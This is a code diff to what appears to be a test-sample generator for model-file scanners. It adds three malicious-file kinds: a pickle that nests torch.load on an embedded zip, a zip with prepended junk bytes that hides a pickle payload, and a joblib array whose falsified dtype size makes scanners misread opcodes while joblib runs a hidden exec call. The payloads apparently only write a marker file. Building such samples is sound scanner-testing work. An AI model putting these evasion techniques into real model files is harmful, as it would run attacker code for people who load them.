@@ -27,7 +27,8 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
-__all__ = ["ALL_KINDS", "EXT_CODE", "LOADERS", "Loader", "build", "fire", "payload_pickle"]
+__all__ = ["ALL_KINDS", "EXT_CODE", "LOADERS", "Loader", "build", "fire", "payload_pickle",
+           "prepended_zip"]
 
 #: The copyreg extension code the ``ext-opcode`` payload uses (registered only while firing).
 EXT_CODE = 0x7A11
@@ -292,6 +293,56 @@ def _polyglot(path: Path, marker: Path) -> None:
     path.write_bytes(payload_pickle(marker) + _benign_torch_zip_bytes())
 
 
+def _nested_bytes(path: Path, marker: Path) -> None:
+    """``pickle.dumps(tensor)`` style: ``torch.storage._load_from_bytes(b"<a whole torch zip>")``
+    runs ``torch.load(weights_only=False)`` on the bytes, here a zip with the payload."""
+    import torch  # noqa: PLC0415
+
+    inner = io.BytesIO()
+    torch.save({"w": torch.ones(2), "p": _exec_obj(marker)}, inner)
+    obj = _Reduce(torch.storage._load_from_bytes, (inner.getvalue(),))
+    path.write_bytes(pickle.dumps(obj, protocol=2))
+
+
+def prepended_zip(payload: bytes, prefix: bytes = b"JUNK" * 10) -> bytes:
+    """A torch-style zip with ``payload`` in ``archive/extra/constants``, after ``prefix``.
+
+    Offsets stay relative to the zip's own start: miniz (torch) cannot read the result, Python's
+    zipfile corrects them and reads every member.
+    """
+    benign = _benign_torch_zip_bytes()
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(benign)) as src, zipfile.ZipFile(out, "w") as dst:
+        for info in src.infolist():
+            dst.writestr(info, src.read(info))
+        dst.writestr("archive/extra/constants", payload)
+    return prefix + out.getvalue()
+
+
+def _prepended(path: Path, marker: Path) -> None:
+    path.write_bytes(prepended_zip(payload_pickle(marker)))
+
+
+def _joblib_dtype_elsize(path: Path, marker: Path) -> None:
+    """A joblib array whose pickled dtype state claims ``elsize=1`` for ``f8``: numpy ignores
+    elsize for fixed-size dtypes (8 bytes per item), a scanner that trusts it skips 1 per item
+    and reads the array bytes as opcodes. Those hide (inside a BINBYTES) the payload that
+    joblib, reading on after the real 64 bytes, runs."""
+    import joblib  # noqa: PLC0415
+    import numpy as np  # noqa: PLC0415
+
+    buf = io.BytesIO()
+    joblib.dump(np.zeros(8), buf)
+    data = buf.getvalue()
+    head = data[: data.index(b"K\x10ub") + 4]  # ... alignment 16, SETITEMS, BUILD
+    head = head.replace(b"J\xff\xff\xff\xff", b"J\x01\x00\x00\x00", 1)  # dtype elsize
+    head += data[len(head) : len(head) + 1 + data[len(head)]]  # joblib's alignment padding
+    evil = _su("builtins") + _su("exec") + b"\x93" + _su(_code(marker)) + b"\x85R"
+    filler = 64 - 8 - 5
+    array = b"\x00" * 8 + b"B" + struct.pack("<I", filler + len(evil)) + b"\x00" * filler
+    path.write_bytes(head + array + evil + b"0.")
+
+
 def _plain(protocol: int, flavour: str = "exec") -> Callable[[Path, Path], None]:
     def write(path: Path, marker: Path) -> None:
         path.write_bytes(payload_pickle(marker, protocol=protocol, flavour=flavour))
@@ -329,6 +380,9 @@ _BUILDERS: dict[str, tuple[str, Loader, Callable[[Path, Path], None]]] = {
     "nested-zip": ("bundle.zip", Loader.NESTED_TORCH, _nested_zip),
     "lying-extension": ("config.json", Loader.TORCH, _plain(2)),
     "polyglot-pickle-zip": ("model.pt", Loader.PICKLE, _polyglot),
+    "pickle-nested-bytes": ("tensor.pkl", Loader.PICKLE, _nested_bytes),
+    "zip-prepended-data": ("model.pt", Loader.ZIP_MEMBER, _prepended),
+    "joblib-dtype-elsize": ("model.joblib", Loader.JOBLIB, _joblib_dtype_elsize),
 }
 
 #: Every kind of sample, in a stable order.
